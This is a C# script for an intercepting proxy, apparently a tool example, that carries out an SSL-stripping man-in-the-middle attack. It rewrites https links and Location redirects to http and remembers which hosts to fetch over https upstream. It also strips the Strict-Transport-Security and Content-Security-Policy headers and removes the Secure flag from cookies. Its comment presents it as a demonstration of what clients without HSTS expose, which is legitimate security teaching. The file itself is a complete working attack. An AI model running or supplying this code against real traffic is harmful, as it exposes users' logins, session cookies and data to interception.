// sslstrip.csx - show what clients without HSTS give away: links and redirects to https become http, while the origin is asked by https
//
//     scriptproxy -s examples/scripts/sslstrip.csx

using System.Collections.Concurrent;

static readonly Regex SecureLink = new("""https://(?<host>[^/\s"'<>\\:?#]+)""", RegexOptions.IgnoreCase, TimeSpan.FromSeconds(1));
readonly ConcurrentDictionary<string, bool> secure = new(StringComparer.OrdinalIgnoreCase);

void OnRequest(HttpFlow flow)
{
    var request = flow.Request;
    request.Headers.Remove("Upgrade-Insecure-Requests");
    if (request.Scheme == "http" && secure.ContainsKey(request.Host)) request.Url = $"https://{request.Host}{request.Target}";
}

async Task OnResponse(HttpFlow flow)
{
    var response = flow.Response!;
    response.Headers.Remove("Strict-Transport-Security");
    response.Headers.Remove("Content-Security-Policy");
    if (response.Headers["Location"] is { } location) response.Headers["Location"] = Strip(location);
    KeepCookiesWithoutTls(response.Headers);

    if (response.ContentType is "text/html" or "text/css" or "text/javascript" && response.HasBody)
    {
        var text = await response.ReadTextAsync(flow.Aborted);
        if (SecureLink.IsMatch(text)) response.SetText(Strip(text));
    }
}

// The hosts are remembered: they are asked by https when the client comes by http.
string Strip(string text) => SecureLink.Replace(text, link =>
{
    secure[link.Groups["host"].Value] = true;
    return "http://" + link.Groups["host"].Value;
});

static void KeepCookiesWithoutTls(HeaderList headers)
{
    var cookies = headers.GetAll("Set-Cookie");
    headers.Remove("Set-Cookie");
    foreach (var cookie in cookies)
        headers.Add("Set-Cookie", string.Join("; ", cookie.Split(';', StringSplitOptions.TrimEntries).Where(part => !part.Equals("Secure", StringComparison.OrdinalIgnoreCase))));
}
